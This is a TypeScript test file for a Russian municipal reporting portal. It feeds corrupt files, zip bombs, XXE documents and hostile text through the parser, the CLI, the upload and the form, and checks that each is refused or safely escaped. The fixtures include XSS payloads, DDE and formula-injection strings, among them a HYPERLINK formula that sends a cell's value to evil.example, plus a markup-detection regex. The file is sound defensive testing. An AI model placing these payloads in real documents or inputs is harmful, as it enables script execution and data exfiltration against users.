// A generated corpus of bad and hostile input through every channel there is: the parser itself,
// the CLI (`svodka submit --file`), the portal's upload and its form. Bad files are refused with a
// Russian reason, never a crash, a 5xx or a stack trace, and nothing of them is stored as accepted.
// Hostile text (formulas, HTML and <script>, control characters, right-to-left text, emoji) is kept
// as text: escaped in every page, plain text in emails, plain runs (never fields) in the report.
// The quarter's workflow is unaffected throughout and completes.
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseSubmissionDocx } from '../../infrastructure/docx/parse';
import { readReportDocx } from '../../infrastructure/docx/read';
import { resolveToken } from '../../infrastructure/tokens';
import { createUser } from '../../client/web/auth';
import { buildPortal } from '../../client/web/server';
import { parseQuarter } from '../../domain/quarter';
import type { EventRow } from '../../domain/types';
import { COLUMN_KEYS } from '../../domain/types';
import { validateRows } from '../../domain/validate';
import { submissionStatusQuery, submissionWorkflowId } from '../../workflows/api';
import {
  docmFile,
  doctypeFile,
  emptyTableFile,
  encryptedDocxFile,
  legacyDocFile,
  libreOfficeSubmission,
  malformedXmlFile,
  notDocxZip,
  pdfFile,
  sampleRow,
  truncatedZipFile,
  wordSubmission,
  wrongColumnsFile,
  zipBombFile,
} from '../fixtures/docx-builders';
import { answerOutcome, answerPage, hiddenValue, multipartBody } from '../e2e/fakes';
import { reliability } from './report';
import {
  quarterStatus,
  startFaultStack,
  startQuarter,
  waitForChildren,
  waitForPhase,
  approveAndRead,
  checkMail,
} from './support';
import type { FaultStack } from './support';

const report = reliability('bad-input');
const Q = '2023-Q2';
/** Who answers through which channel: the CLI, the upload, the form; two take the hostile text. */
const CLI = 'vyazma';
const UPLOAD = 'velizh';
const FORM = 'gagarin';
const HOSTILE_FORM = 'glinka';
const HOSTILE_FILE = 'demidov';
const CODES = ['smolensk', 'velizh', 'vyazma', 'gagarin', 'glinka', 'demidov'];
const SECRET = 'bad-input-test-secret-of-32-bytes!!';

let stack: FaultStack;
let app: FastifyInstance;

beforeAll(async () => {
  stack = await startFaultStack({ database: 'sqlite', workers: 1 });
  app = await buildPortal({
    db: stack.db,
    temporal: stack.client,
    config: {
      publicUrl: 'http://localhost:3000',
      temporalUiUrl: null,
      secret: SECRET,
      rateLimits: {
        token: { limit: 100_000, windowMs: 60_000 },
        login: { limit: 1000, windowMs: 60_000 },
        upload: { limit: 100_000, windowMs: 60_000 },
      },
    },
  });
});
afterAll(async () => {
  await app?.close();
  await stack?.stop();
  report.finish();
});

// --- the corpus ----------------------------------------------------------------------------------

const MiB = 1024 * 1024;
const many = (n: number, dates = '21 мая 2023 года') =>
  Array.from({ length: n }, (_, i) => sampleRow({ title: `Встреча № ${i + 1}`, dates }));

/** cli: false — the CLI's path for it is its sibling's (the parser and the upload take every file). */
type BadFile = { name: string; fileName: string; bytes: Uint8Array; cli: boolean };

/** Variants whose CLI run would repeat another's: the CLI uploads, the worker parses, both the same. */
const NOT_THROUGH_CLI = new Set([
  'zip bomb lying about its size',
  'XML with a DOCTYPE',
  'malformed XML',
  'a ZIP that is not a DOCX',
  'HTML page renamed .docx',
  '1,500 rows (over the validation limit)',
]);

async function badFiles(): Promise<BadFile[]> {
  const good = await wordSubmission({ rows: [sampleRow()] });
  const noise = Uint8Array.from({ length: 4000 }, (_, i) => (i * 7919 + 13) % 256);
  const files: [string, string, Uint8Array][] = [
    ['corrupt archive', 'сведения.docx', new Uint8Array([0x50, 0x4b, 3, 4, ...noise])],
    ['truncated archive', 'сведения.docx', truncatedZipFile(good)],
    ['PDF renamed .docx', 'сведения.docx', pdfFile()],
    ['legacy .doc', 'сведения.doc', legacyDocFile()],
    ['macro-enabled .docm', 'сведения.docm', docmFile()],
    ['password-protected', 'сведения.docx', encryptedDocxFile()],
    ['zip bomb (120 MB of zeros)', 'сведения.docx', zipBombFile({ megabytes: 120 })],
    ['zip bomb lying about its size', 'сведения.docx', zipBombFile({ megabytes: 60, declaredSize: 1000 })],
    ['XML with a DOCTYPE', 'сведения.docx', doctypeFile('doctype')],
    ['XML with an external entity', 'сведения.docx', doctypeFile('entity')],
    ['malformed XML', 'сведения.docx', malformedXmlFile()],
    ['a ZIP that is not a DOCX', 'сведения.docx', notDocxZip()],
    [
      'HTML page renamed .docx',
      '<script>alert(1)</script>.docx',
      new TextEncoder().encode('<html><body><script>alert(1)</script></body></html>'),
    ],
    ['table with the wrong columns', 'сведения.docx', wrongColumnsFile()],
    ['empty table', 'сведения.docx', await emptyTableFile()],
    ['2,500 rows (over the parser limit)', 'сведения.docx', libreOfficeSubmission({ rows: many(2500) })],
    ['1,500 rows (over the validation limit)', 'сведения.docx', libreOfficeSubmission({ rows: many(1500) })],
    [
      'a 100,000-character cell',
      'сведения.docx',
      libreOfficeSubmission({ rows: [sampleRow({ purpose: 'а'.repeat(100_000) })] }),
    ],
    ['<script> in every cell, dates too', 'сведения.docx', libreOfficeSubmission({ rows: [scriptRow()] })],
    ['an empty file', 'сведения.docx', new Uint8Array(0)],
    [
      '10 MiB + 1 byte',
      'сведения.docx',
      Uint8Array.from({ length: 10 * MiB + 1 }, (_, i) => (i < 4 ? [0x50, 0x4b, 3, 4][i]! : 0)),
    ],
  ];
  return files.map(([name, fileName, bytes]) => ({ name, fileName, bytes, cli: !NOT_THROUGH_CLI.has(name) }));
}

/** Markup in every field; the dates field cannot be read, so the row is refused. */
function scriptRow(): EventRow {
  const row = {} as EventRow;
  for (const key of COLUMN_KEYS) row[key] = `<script>alert("${key}")</script><img src=x onerror=alert(1)>`;
  return row;
}

/** Text that is hostile but valid: it must be kept as text, never interpreted. */
const HOSTILE: EventRow[] = [
  {
    title: '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    place: '+7 (4812) 00-00-00, г. Смоленск',
    dates: '3 апреля 2023 года',
    purpose: "-2+3+cmd|' /C calc'!A0 обмен опытом",
    participants: '@SUM(1,2) делегация Республики Беларусь',
  },
  {
    title: '<script>alert("title")</script> Встреча <b>делегаций</b>',
    place: '<img src=x onerror=alert(1)> г. Вязьма',
    dates: '5 апреля 2023 года',
    purpose: '"><svg onload=alert(1)> & культурный обмен',
    participants: '</textarea><script>alert(2)</script> делегация Республики Беларусь',
  },
  {
    title: 'Визит делегации: שלום, مرحبا بكم 🇧🇾🎉',
    place: 'г. Смоленск 🏛️',
    dates: '7 апреля 2023 года',
    purpose: 'Дружба народов 🤝 (текст \u202Eсправа налево\u202C)',
    participants: 'Делегация Республики Беларусь 👥',
  },
  {
    title: 'Управляющие\u0001\u0007\u001b символы',
    place: 'г. Смоленск\u000b',
    dates: '9 апреля 2023 года',
    purpose: 'Цель\u0008 встречи',
    participants: 'Делегация Республики Беларусь\u007f',
  },
];

// --- checks of every answer --------------------------------------------------------------------

const problems: string[] = [];
let tried = 0;
let clean = 0;

/** One bad input through one channel: counted, and its problems collected rather than thrown. */
async function attempt(label: string, run: () => Promise<string[]>): Promise<void> {
  tried++;
  let found: string[];
  try {
    found = await run();
  } catch (err) {
    found = [`threw ${String(err)}`];
  }
  if (found.length === 0) clean++;
  else problems.push(...found.map((p) => `${label}: ${p}`));
}

const STACK_TRACE = /\n\s+at \S|node_modules|node:internal|\.ts:\d+:\d+/;
const CYRILLIC = /[А-Яа-яЁё]{4,}/;
/** A tag of the attacker's, or an event-handler attribute inside any tag (escaped text has no «<»). */
const RAW_MARKUP = /<(script|img|svg|iframe|object|embed)\b|<[a-z][^>]*\son[a-z]+=/i;

/** Every page: no 5xx, no stack trace, no markup of ours unescaped, Russian. */
function pageProblems(res: LightMyRequestResponse, what: string): string[] {
  const out: string[] = [];
  if (res.statusCode >= 500) out.push(`${what}: HTTP ${res.statusCode}`);
  if (STACK_TRACE.test(res.body)) out.push(`${what}: stack trace in the page`);
  if (RAW_MARKUP.test(res.body)) out.push(`${what}: unescaped markup: ${RAW_MARKUP.exec(res.body)![0]}`);
  const opened = (res.body.match(/<textarea/g) ?? []).length;
  const closed = (res.body.match(/<\/textarea>/g) ?? []).length;
  if (opened !== closed) out.push(`${what}: ${opened} <textarea> but ${closed} </textarea>`);
  if (res.headers['content-type']?.toString().startsWith('text/html') && !CYRILLIC.test(res.body))
    out.push(`${what}: no Russian text`);
  return out;
}

function cliProblems(r: { code: number; stdout: string; stderr: string }): string[] {
  const out: string[] = [];
  const all = r.stdout + r.stderr;
  if (r.code !== 1) out.push(`exit ${r.code}`);
  if (STACK_TRACE.test(all)) out.push(`stack trace: ${all.slice(0, 300)}`);
  if (!CYRILLIC.test(all)) out.push(`no Russian message: ${all.slice(0, 200)}`);
  if (!/НЕ приняты|слишком большой/.test(all)) out.push(`no rejection said: ${all.slice(0, 200)}`);
  return out;
}

// --- the portal's plumbing -----------------------------------------------------------------------

function tokenFromEmail(code: string): string {
  const mail = stack.mail.messages.find(
    (m) => m.headers.get('x-svodka-municipality') === code && m.subject.startsWith('Запрос сведений'),
  );
  const token = /\/m\/([A-Za-z0-9_-]{43})/.exec(mail?.text ?? '')?.[1];
  if (!token) throw new Error(`no portal link in the request email of ${code}`);
  return token;
}

async function csrfOf(token: string): Promise<string> {
  return hiddenValue((await app.inject({ method: 'GET', url: `/m/${token}` })).body, '_csrf');
}

function formPayload(csrf: string, rows: EventRow[], action = 'submit'): string {
  const fields = new URLSearchParams({ _csrf: csrf, count: String(rows.length), action });
  rows.forEach((row, i) => {
    for (const key of COLUMN_KEYS) fields.set(`r${i}_${key}`, row[key]);
  });
  return fields.toString();
}
const FORM_TYPE = { 'content-type': 'application/x-www-form-urlencoded' };

/** Follows a 303 to the version page; both must be clean; returns the version page. */
async function followVersion(
  res: LightMyRequestResponse,
  what: string,
  out: string[],
): Promise<LightMyRequestResponse | null> {
  out.push(...pageProblems(res, what));
  if (res.statusCode !== 303) {
    out.push(`${what}: HTTP ${res.statusCode}, expected a redirect to the version page`);
    return null;
  }
  const receipt = await app.inject({ method: 'GET', url: String(res.headers.location) });
  out.push(...pageProblems(receipt, `${what} → receipt`));
  const page = await answerPage(app, res);
  out.push(...pageProblems(page, `${what} → version page`));
  return page;
}

async function acceptedCount(code: string): Promise<number> {
  return stack.db.submission.count({ where: { quarter: Q, municipality: code, status: 'accepted' } });
}

// --- the test ------------------------------------------------------------------------------------

describe('bad input through every channel', () => {
  it(
    'is refused cleanly, stored as nothing accepted, and leaves the workflow unaffected',
    { timeout: 300_000 },
    async () => {
      const t0 = Date.now();
      const at = () => `${Math.round((Date.now() - t0) / 1000)} s`;
      const corpus = await badFiles();
      await startQuarter(stack.client, Q, CODES);
      await waitForChildren(stack.client, Q, CODES);
      await stack.mail.waitFor(
        (all) => all.filter((m) => m.subject.startsWith('Запрос сведений')).length === CODES.length,
        120_000,
      );
      const quarter = parseQuarter(Q);

      // 1. The parser itself: never throws, says why in Russian, and nothing it lets through passes
      //    validation (what recordSubmission does with it).
      for (const f of corpus) {
        await attempt(`parser / ${f.name}`, async () => {
          const started = Date.now();
          const parsed = parseSubmissionDocx(f.bytes);
          const out: string[] = [];
          if (Date.now() - started > 10_000) out.push(`took ${Date.now() - started} ms`);
          if (!parsed.ok) {
            if (!CYRILLIC.test(parsed.message)) out.push(`message not Russian: ${parsed.message}`);
            // «10 МБ при допустимых 10 МБ» told a clerk nothing.
            if (/(\d+(?:,\d)? [КМ]?Б) при допустимых \1/.test(parsed.message))
              out.push(`size message contradicts itself: ${parsed.message}`);
          } else if (!validateRows(parsed.rows, quarter).findings.some((x) => x.severity === 'error')) {
            out.push(`accepted: ${parsed.rows.length} rows`);
          }
          return out;
        });
      }
      report.note(`parser done at ${at()}`);

      // 2.–4. The CLI, the upload and the form, side by side (each its own municipality).
      // 2. The CLI, as a clerk runs it: exit 1 and a Russian reason, never a crash.
      const queue = corpus.filter((f) => f.cli);
      const cliWorker = async () => {
        for (let f = queue.shift(); f; f = queue.shift()) {
          const file = path.join(
            stack.dir,
            `cli-${corpus.indexOf(f)}-${f.fileName.replace(/[<>/"()]/g, '_')}`,
          );
          writeFileSync(file, f.bytes);
          const name = f.name;
          await attempt(`CLI / ${name}`, async () =>
            cliProblems(await stack.cliLong(['submit', Q, CLI, '--file', file], 180_000)),
          );
        }
      };
      const cliPhase = Promise.all([cliWorker(), cliWorker(), cliWorker()]).then(() =>
        report.note(`CLI done at ${at()}`),
      );

      // 3. The portal's upload, with the link of the municipality's real request email.
      const uploadToken = tokenFromEmail(UPLOAD);
      const uploadCsrf = await csrfOf(uploadToken);
      const uploadPhase = (async () => {
        for (const f of corpus) {
          await attempt(`upload / ${f.name}`, async () => {
            const out: string[] = [];
            const body = multipartBody(
              { _csrf: uploadCsrf },
              { name: 'file', fileName: f.fileName, bytes: f.bytes },
            );
            const res = await app.inject({ method: 'POST', url: `/m/${uploadToken}/upload`, ...body });
            if (f.bytes.length > 10 * MiB || f.bytes.length === 0) {
              // Refused before the workflow: 413 for the size, 400 for no file.
              out.push(...pageProblems(res, 'upload'));
              if (res.statusCode !== (f.bytes.length ? 413 : 400)) out.push(`HTTP ${res.statusCode}`);
              return out;
            }
            const page = await followVersion(res, 'upload', out);
            if (page && !page.body.includes('Сведения не приняты'))
              out.push('the version page does not say «не приняты»');
            return out;
          });
        }
        report.note(`upload done at ${at()}`);
      })();

      // 4. The portal's form: markup in every field (dates too), a 100,000-character cell, thousands
      //    of rows, an empty form, a body over the limit.
      const formToken = tokenFromEmail(FORM);
      const formCsrf = await csrfOf(formToken);
      const formCases: [string, string, number[]][] = [
        ['<script> in every field', formPayload(formCsrf, [scriptRow(), scriptRow()]), [303]],
        [
          'a 100,000-character cell',
          formPayload(formCsrf, [sampleRow({ purpose: 'б'.repeat(100_000) })]),
          [303],
        ],
        [
          '3,000 rows',
          formPayload(
            formCsrf,
            Array.from({ length: 3000 }, (_, i) => ({
              title: `E${i}`,
              place: 'x',
              dates: 'x',
              purpose: 'x',
              participants: 'x',
            })),
          ),
          [303],
        ],
        [
          'control characters only',
          formPayload(formCsrf, [
            {
              title: '\u0001\u0002',
              place: '\u0007',
              dates: '\u001b',
              purpose: '\u0000',
              participants: '\u007f',
            },
          ]),
          [303, 422],
        ],
        [
          'an empty form',
          formPayload(formCsrf, [{ title: '', place: '', dates: '', purpose: '', participants: '' }]),
          [422],
        ],
        [
          'a body over the limit',
          formPayload(
            formCsrf,
            many(200).map((r) => ({ ...r, purpose: 'в'.repeat(12_000) })),
          ),
          [413],
        ],
      ];
      const formPhase = (async () => {
        for (const [name, payload, statuses] of formCases) {
          await attempt(`form / ${name}`, async () => {
            const out: string[] = [];
            const res = await app.inject({
              method: 'POST',
              url: `/m/${formToken}/form`,
              headers: FORM_TYPE,
              payload,
            });
            if (!statuses.includes(res.statusCode))
              out.push(`HTTP ${res.statusCode}, expected ${statuses.join(' or ')}`);
            if (res.statusCode === 303) {
              const page = await followVersion(res, 'form', out);
              if (page && !page.body.includes('Сведения не приняты'))
                out.push('the version page does not say «не приняты»');
            } else out.push(...pageProblems(res, 'form'));
            return out;
          });
        }
        report.note(`form done at ${at()}`);
      })();
      // The three channels run side by side: different municipalities, one workflow each.
      await Promise.all([cliPhase, uploadPhase, formPhase]);
      // The form never takes more than its 200 rows, whatever is posted.
      const most = await stack.db.submission.aggregate({
        where: { quarter: Q, municipality: FORM },
        _max: { rowCount: true },
      });
      expect(most._max.rowCount).toBeLessThanOrEqual(200);

      // Nothing bad was stored as accepted, and the workflows are unaffected: still running, the
      // status query answers, each channel's municipality stands rejected.
      for (const code of [CLI, UPLOAD, FORM]) expect(await acceptedCount(code)).toBe(0);
      const stored = await stack.db.submission.count({
        where: { quarter: Q, municipality: { in: [CLI, UPLOAD, FORM] } },
      });
      report.note(`${stored} rejected versions stored for the bad inputs, none accepted`);
      const midway = await quarterStatus(stack.client, Q);
      expect(midway.phase).toBe('collecting');
      for (const code of [CLI, UPLOAD, FORM]) {
        const s = await stack.client.workflow
          .getHandle(submissionWorkflowId(Q, code))
          .query(submissionStatusQuery);
        expect(s.state, code).toBe('rejected');
        expect(s.versions, code).toBeGreaterThan(0);
      }
      expect(stack.workers[0]!.alive()).toBe(true);

      // The rejection email for the markup-laden form answer is plain text, with no HTML part.
      await stack.mail.waitFor(
        (all) =>
          all.some(
            (m) =>
              m.headers.get('x-svodka-municipality') === FORM && m.subject.startsWith('Сведения не приняты'),
          ),
        60_000,
      );
      const rejection = stack.mail.messages.find(
        (m) => m.headers.get('x-svodka-municipality') === FORM && m.subject.startsWith('Сведения не приняты'),
      )!;
      expect((rejection.headers.get('content-type') as { value?: string } | undefined)?.value).toBe(
        'text/plain',
      );

      // 5. Hostile but valid text is accepted as text: through the form, and in a Word file through
      //    the upload and the CLI.
      const hostileToken = tokenFromEmail(HOSTILE_FORM);
      const hostileCsrf = await csrfOf(hostileToken);
      const hostileOut: string[] = [];
      const accepted = await followVersion(
        await app.inject({
          method: 'POST',
          url: `/m/${hostileToken}/form`,
          headers: FORM_TYPE,
          payload: formPayload(hostileCsrf, HOSTILE),
        }),
        'hostile form',
        hostileOut,
      );
      expect(hostileOut).toEqual([]);
      expect(accepted?.body).toContain('Сведения приняты');
      const hostileDocx = await wordSubmission({ rows: HOSTILE });
      const fileToken = tokenFromEmail(HOSTILE_FILE);
      const up = await app.inject({
        method: 'POST',
        url: `/m/${fileToken}/upload`,
        ...multipartBody(
          { _csrf: await csrfOf(fileToken) },
          { name: 'file', fileName: '=cmd|calc.docx', bytes: hostileDocx },
        ),
      });
      const upOut: string[] = [];
      expect((await followVersion(up, 'hostile upload', upOut))?.body).toContain('Сведения приняты');
      expect(upOut).toEqual([]);
      const cliFile = path.join(stack.dir, 'hostile.docx');
      writeFileSync(cliFile, hostileDocx);
      const viaCli = await stack.cliLong(['submit', Q, 'smolensk', '--file', cliFile]);
      expect(viaCli.code, viaCli.stdout + viaCli.stderr).toBe(0);
      for (const code of [HOSTILE_FORM, HOSTILE_FILE, 'smolensk']) {
        const sub = await stack.db.submission.findFirst({
          where: { quarter: Q, municipality: code, status: 'accepted' },
          include: { rows: { orderBy: { position: 'asc' } } },
        });
        expect(sub?.rows.map((r) => r.title)).toEqual([
          HOSTILE[0]!.title,
          HOSTILE[1]!.title,
          HOSTILE[2]!.title,
          'Управляющие символы',
        ]);
        const all = sub!.rows.flatMap((r) => COLUMN_KEYS.map((k) => r[k])).join('\n');
        expect(all).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
        expect(all).toContain('שלום, مرحبا بكم 🇧🇾🎉');
      }

      // Every page that shows the hostile text escapes it: the municipality's pages, the form
      // prefilled from the last answer, and the coordinator's.
      const pages: string[] = [];
      for (const token of [tokenFromEmail(CLI), uploadToken, formToken, hostileToken, fileToken]) {
        pages.push(`/m/${token}`, `/m/${token}/form`);
        const versions = await stack.db.submission.count({
          where: { quarter: Q, municipality: (await municipalityOf(token))! },
        });
        for (let v = 1; v <= versions; v++) pages.push(`/m/${token}/versions/${v}`);
      }
      await createUser(stack.db, {
        login: 'coord',
        name: 'Координатор',
        role: 'coordinator',
        password: 'Krasnyi-Bor-1957',
      });
      const cookies = await signIn('coord', 'Krasnyi-Bor-1957');
      pages.push(
        `/quarters`,
        `/quarters/${Q}`,
        `/quarters/${Q}/audit`,
        ...CODES.map((c) => `/quarters/${Q}/m/${c}`),
      );
      const pageOut: string[] = [];
      for (const url of pages) {
        const res = await app.inject({
          method: 'GET',
          url,
          cookies: url.startsWith('/quarters') ? cookies : {},
        });
        if (res.statusCode !== 200 && !(url.endsWith('/form') && res.statusCode === 409))
          pageOut.push(`${url}: HTTP ${res.statusCode}`);
        pageOut.push(...pageProblems(res, url.replace(/[A-Za-z0-9_-]{43}/, '…')));
      }
      expect(pageOut).toEqual([]);

      // 6. The workflow goes on: good answers are accepted after all that, and the quarter completes.
      const good = await wordSubmission({
        rows: [sampleRow({ title: 'Встреча с делегацией после отказов' })],
      });
      const goodFile = path.join(stack.dir, 'good.docx');
      writeFileSync(goodFile, good);
      const goodCli = await stack.cliLong(['submit', Q, CLI, '--file', goodFile]);
      expect(goodCli.code, goodCli.stdout + goodCli.stderr).toBe(0);
      const goodUpload = await app.inject({
        method: 'POST',
        url: `/m/${uploadToken}/upload`,
        ...multipartBody({ _csrf: uploadCsrf }, { name: 'file', fileName: 'good.docx', bytes: good }),
      });
      expect((await answerPage(app, goodUpload)).body).toContain('Сведения приняты');
      const goodForm = await app.inject({
        method: 'POST',
        url: `/m/${formToken}/form`,
        headers: FORM_TYPE,
        payload: formPayload(formCsrf, [sampleRow()]),
      });
      expect((await answerPage(app, goodForm)).body).toContain('Сведения приняты');
      await waitForPhase(stack.client, Q, 'awaiting_approval');

      // The report: the hostile text as plain runs; no fields, no raw markup, no control characters.
      const reportPage = await app.inject({ method: 'GET', url: `/quarters/${Q}/report`, cookies });
      expect(pageProblems(reportPage, 'report preview')).toEqual([]);
      const approved = await approveAndRead(stack, Q);
      expect(approved.code, approved.output).toBe(0);
      expect(approved.events).toBe(3 * HOSTILE.length + 3);
      const finalFile = path.join(stack.dir, `final-${Q}.docx`);
      const bytes = readFileSync(finalFile);
      const documentXml = new TextDecoder().decode(unzipSync(bytes)['word/document.xml']!);
      expect(documentXml).not.toMatch(/<w:fldSimple|<w:instrText|<w:fldChar|<w:hyperlink/);
      expect(documentXml).not.toMatch(/<script|<img|<svg/);
      expect(documentXml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
      const cells = readReportDocx(bytes).sections.flatMap((s) => s.rows.flatMap((r) => r.cells));
      for (const text of [
        HOSTILE[0]!.title,
        HOSTILE[0]!.purpose,
        HOSTILE[0]!.participants,
        HOSTILE[1]!.title,
        HOSTILE[1]!.participants,
        HOSTILE[2]!.title,
      ])
        expect(cells).toContain(text);
      // Bidirectional overrides are gone: the cell reads in the report as it displays.
      expect(cells).toContain('Дружба народов 🤝 (текст справа налево)');
      expect(documentXml).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
      await waitForPhase(stack.client, Q, 'approved');
      report.add({ quartersCompleted: 1 });

      // After sign-off the real links refuse answers.
      const closed = await app.inject({
        method: 'POST',
        url: `/m/${uploadToken}/nil`,
        headers: FORM_TYPE,
        payload: new URLSearchParams({ _csrf: uploadCsrf, confirm: 'yes' }).toString(),
      });
      // Refused at once (the portal has heard of the sign-off) or on the receipt page.
      const refusal = await answerOutcome(app, closed);
      expect(refusal.statusCode).toBe(409);
      expect(refusal.body).toContain('закрыт');

      const mail = await checkMail(stack, [Q]);
      report.add({
        emailsReceived: mail.messages,
        emailsDuplicated: mail.duplicated,
        emailsRedelivered: mail.redelivered,
      });
      expect(mail.problems).toEqual([]);
      // Nothing here kills a worker, so not even a same-Message-ID resend.
      expect(mail.redeliveries).toEqual([]);
      report.add({ badInputsTried: tried, badInputsRejectedCleanly: clean });
      report.note(
        `${tried} bad inputs (${corpus.length} files × parser and upload, ${corpus.filter((f) => f.cli).length} through the CLI; ${formCases.length} form posts), ${clean} refused cleanly; done at ${at()}`,
      );
      expect(problems).toEqual([]);
    },
  );
});

async function municipalityOf(token: string): Promise<string | null> {
  return (await resolveToken(stack.db, token))?.municipality ?? null;
}

async function signIn(login: string, password: string): Promise<Record<string, string>> {
  const form = await app.inject({ method: 'GET', url: '/login' });
  const cookie = (res: LightMyRequestResponse, name: string) =>
    ([] as string[])
      .concat(res.headers['set-cookie'] ?? [])
      .find((c) => c.startsWith(`${name}=`))!
      .split(';')[0]!
      .slice(name.length + 1);
  const res = await app.inject({
    method: 'POST',
    url: '/login',
    cookies: { svodka_login: cookie(form, 'svodka_login') },
    payload: { login, password, _csrf: hiddenValue(form.body, '_csrf') },
  });
  return { svodka_session: cookie(res, 'svodka_session') };
}
